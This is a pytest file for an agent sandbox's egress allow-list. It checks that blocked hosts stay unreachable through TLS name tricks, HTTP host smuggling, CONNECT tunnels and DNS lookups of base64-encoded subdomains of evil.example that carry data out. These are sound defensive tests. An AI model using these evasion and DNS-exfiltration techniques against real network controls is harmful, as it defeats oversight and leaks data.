"""Attempts to reach hosts during an agent task that its allow-list doesn't have."""

from __future__ import annotations

import asyncio
import contextlib
import functools
import socket
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import pytest

from gibil_bot.registries import hosts
from tests.doubles.gatekit import listening
from tests.doubles.patience import patient
from tests.doubles.routed import Inside, client_hello, routed

pytestmark = pytest.mark.usefixtures("local_machines")

_ALERT = b"\x15\x03\x03\x00\x02\x02\x31"
"""TLS: access denied."""
_RESET = b"ConnectionResetError"
_GET = b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n"
_NAMES = ("pypi.org", "files.pythonhosted.org", "evil.example", "db.example")
_ADDRESS = "93.184.216.34"
"""A public address, of which the test's own resolver says that nothing else has it."""

_REACHED = """
def reached(address, port, first=b"", then=b""):
    with socket.socket() as tried:
        tried.settimeout(30)
        try:
            tried.connect((address, port))
            tried.sendall(first)
            answer = tried.recv(1000)
            if then:
                tried.sendall(then)
                answer += b"|" + tried.recv(1000)
            return answer
        except OSError as error:
            return type(error).__name__.encode()
"""


@dataclass
class Internet:
    """Servers of some names, each at a loopback port, whatever the port that a client asks for."""

    ports: dict[str, int] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)
    heard: list[tuple[str, bytes]] = field(default_factory=list)
    signal: asyncio.Event = field(default_factory=asyncio.Event)
    """Set when a client has sent `SIGNAL`; it is answered after `go`."""
    go: asyncio.Event = field(default_factory=asyncio.Event)

    async def resolve(self, host: str, port: int) -> list[tuple[Any, ...]]:
        self.asked.append(host)
        if host in self.ports:
            return [("127.0.0.1", self.ports[host] if port else 0)]
        with contextlib.suppress(OSError):
            socket.inet_aton(host)
            return [(host, port)]
        raise socket.gaierror(socket.EAI_NONAME, "unknown name")

    async def serve(self, name: str, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if name == "db.example":
            writer.write(b"220 hello")
        while data := await reader.read(65536):
            self.heard.append((name, data))
            if b"SIGNAL" in data:
                self.signal.set()
                await self.go.wait()
            http = data.startswith(b"GET ")
            writer.write((b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n" if http else b"") + f"served {name}".encode())
            await writer.drain()


@pytest.fixture
async def internet() -> AsyncIterator[Internet]:
    internet = Internet()
    async with contextlib.AsyncExitStack() as servers:
        for name in _NAMES:
            internet.ports[name] = await servers.enter_async_context(listening(functools.partial(internet.serve, name)))
        yield internet


@contextlib.asynccontextmanager
async def machine(internet: Internet) -> AsyncIterator[Inside]:
    """A machine that may reach all names of the test."""
    async with routed(*_NAMES, resolve=internet.resolve) as inside:
        yield inside


async def test_only_listed_names_are_reached_and_only_by_their_own_protocol(internet: Internet) -> None:
    hello, other = client_hello("pypi.org"), client_hello("evil.example")
    cases: dict[str, tuple[str, bytes]] = {
        "TLS": (f"reached(pypi, 443, {hello!r})", b"served pypi.org"),
        "HTTP": (f"reached(pypi, 80, {_GET % b'pypi.org'!r})[:15]", b"HTTP/1.1 200 OK"),
        "an old address": (f"reached({_ADDRESS!r}, 443, {hello!r})", b"served pypi.org"),
        "a server that speaks first": ("reached(db, 5432)", b"220 hello"),
        "a written port": ("reached(db, 5432, b'SSH-2.0-x    ')[:9]", b"220 hello"),
        "TLS to another name": (f"reached(pypi, 443, {other!r})", _ALERT),
        "TLS without a name": (f"reached(pypi, 443, {client_hello(None)!r})", _ALERT),
        "not TLS": ("reached(pypi, 443, b'SSH-2.0-x    ')", _RESET),
        "HTTP at 443": (f"reached(pypi, 443, {_GET % b'pypi.org'!r})[:12]", b"HTTP/1.1 403"),
        "TLS at 80": (f"reached(pypi, 80, {hello!r})", _ALERT),
        "HTTP to another host": (f"reached(pypi, 80, {_GET % b'evil.example'!r})[:12]", b"HTTP/1.1 403"),
        "HTTP with two hosts": (
            f"reached(pypi, 80, {b'GET http://evil.example/ HTTP/1.1' + _GET[14:] % b'pypi.org'!r})[:12]",
            b"HTTP/1.1 400",
        ),
        "an address": (f"reached({_ADDRESS!r}, 443, {other!r})", _ALERT),
        "SSH": (f"reached({_ADDRESS!r}, 22, b'SSH-2.0-x    ')", _RESET),
        "another port": (f"reached(pypi, 8443, {hello!r})", _ALERT),
        "TLS to another name at a written port": (f"reached(db, 5432, {other!r})", _ALERT),
        "a proxy request": (
            "reached('127.0.0.1', 3128, b'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n')[:12]",
            b"HTTP/1.1 403",
        ),
        "a tunnel": (
            f"reached('127.0.0.1', 3128, b'CONNECT pypi.org:443 HTTP/1.1\\r\\n\\r\\n', {hello!r})[39:]",
            b"|served pypi.org",
        ),
        "a tunnel to another name": (
            f"reached('127.0.0.1', 3128, b'CONNECT pypi.org:443 HTTP/1.1\\r\\n\\r\\n', {other!r})[39:]",
            b"|" + _ALERT,
        ),
        "a tunnel to an address": (
            f"reached('127.0.0.1', 3128, b'CONNECT {_ADDRESS}:443 HTTP/1.1\\r\\n\\r\\n')[:12]",
            b"HTTP/1.1 403",
        ),
    }
    script = _REACHED + "pypi, db = look_up('pypi.org')[1][0], look_up('db.example')[1][0]\n"
    script += "".join(f"print({code})\n" for code, _expected in cases.values())
    async with machine(internet) as inside:
        await inside.proxy.restrict(hosts(["pypi", "db.example:5432"]))
        printed = (await inside.python(script)).splitlines()
        assert dict(zip(cases, printed, strict=True)) == {case: repr(expected) for case, (_code, expected) in cases.items()}
        assert {name for name, _data in internet.heard} == {"pypi.org", "db.example"}
        blocked = inside.refusals.since(0).refused
        assert {refusal.host for refusal in blocked} == {"pypi.org", "evil.example", _ADDRESS}
        assert all(refusal.unlisted for refusal in blocked)


async def test_a_connection_to_port_80_carries_one_request(internet: Internet) -> None:
    smuggled = _GET % b"pypi.org" + _GET % b"evil.example"
    async with machine(internet) as inside:
        await inside.proxy.restrict(hosts(["pypi"]))
        await inside.python(_REACHED + f"print(reached(look_up('pypi.org')[1][0], 80, {smuggled!r}))")
    ((name, heard),) = internet.heard
    assert name == "pypi.org"
    assert heard.count(b"GET") == 1
    assert b"evil" not in heard


async def test_names_that_are_not_listed_are_never_asked_for(internet: Internet) -> None:
    script = """
print(look_up("c2VjcmV0.evil.example"), look_up("evil.example", "8.8.8.8"), look_up("pypi.org")[0], look_up("x.pypi.org")[0])
with socket.create_connection(("192.0.0.53", 53), 20) as stream:
    message = question("b3ZlciBUQ1A.evil.example")
    stream.sendall(len(message).to_bytes(2) + message)
    print(answered(stream.recv(1000)[2:]))
"""
    async with machine(internet) as inside:
        await inside.proxy.restrict(hosts(["pypi"]))
        printed = await inside.python(
            script
            + _REACHED
            + f"print(reached('93.184.216.34', 443, {client_hello('c25p.evil.example')!r}) == {_ALERT!r})\n"
            + "print(reached('127.0.0.1', 3128, b'CONNECT cHJveHk.evil.example:443 HTTP/1.1\\r\\n\\r\\n')[:12])"
        )
        assert printed.splitlines() == [
            "(3, []) (3, []) 0 3",
            "(3, [])",
            "True",
            repr(b"HTTP/1.1 403"),
        ]
        assert set(internet.asked) == {"pypi.org"}
        assert {"c2VjcmV0.evil.example".lower(), "evil.example"} <= {host for host, _port in inside.refused()}


async def test_open_connections_end_when_the_list_begins_and_all_is_reached_after_it(internet: Internet) -> None:
    hello = client_hello("evil.example")
    script = f"""
evil = look_up("evil.example")[1][0]
early = socket.create_connection((evil, 443), 20)
early.sendall({hello!r})
print(early.recv(100))
print(reached(look_up("pypi.org")[1][0], 443, {client_hello("pypi.org")!r}))
early.sendall(b"SIGNAL")
try:
    print(early.recv(100))
except OSError as error:
    print(type(error).__name__)
print(reached(evil, 443, {hello!r}))
print(reached(look_up("pypi.org")[1][0], 443, {client_hello("pypi.org")!r}, b"SIGNAL"))
print(reached(look_up("evil.example")[1][0], 443, {hello!r}))
"""
    async with machine(internet) as inside, asyncio.timeout(patient(60)):
        printing = asyncio.create_task(inside.python(_REACHED + script))
        await internet.signal.wait()
        internet.signal.clear()
        await inside.proxy.restrict(hosts(["pypi"]))
        await internet.signal.wait()
        await inside.proxy.restrict(hosts(["pypi"]))  # again, as after a restart of the bot: this connection goes on
        await inside.proxy.restrict(None)
        internet.go.set()
        assert (await printing).splitlines() == [
            repr(b"served evil.example"),
            repr(b"served pypi.org"),
            _RESET.decode(),
            repr(_ALERT),
            repr(b"served pypi.org|served pypi.org"),
            repr(b"served evil.example"),
        ]
